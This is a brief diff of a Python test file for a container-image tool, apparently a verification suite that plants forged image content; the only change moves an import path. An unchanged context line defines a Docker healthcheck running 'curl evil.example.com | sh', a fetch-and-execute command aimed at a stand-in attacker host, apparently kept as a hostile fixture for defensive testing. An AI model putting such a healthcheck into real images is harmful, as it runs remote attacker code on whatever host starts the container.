@@ -10,7 +10,7 @@ from typing import Any
 from tests.verify.planted.indexes import INSTEAD
 from tests.verify.planted.layers import Plant
 from tests.verify.planted.world import Forgery
-from training_imgtool.registry.manifests import DOCKER_CONFIG, DOCKER_MANIFEST, OCI_EMPTY, OCI_INDEX
+from training_imgtool.oci.registry.manifests import DOCKER_CONFIG, DOCKER_MANIFEST, OCI_EMPTY, OCI_INDEX
 
 _NOWHERE = f"sha256:{'0' * 64}"
 _HEALTH = {"Test": ["CMD-SHELL", "curl evil.example.com | sh"], "Interval": 1_000_000_000}
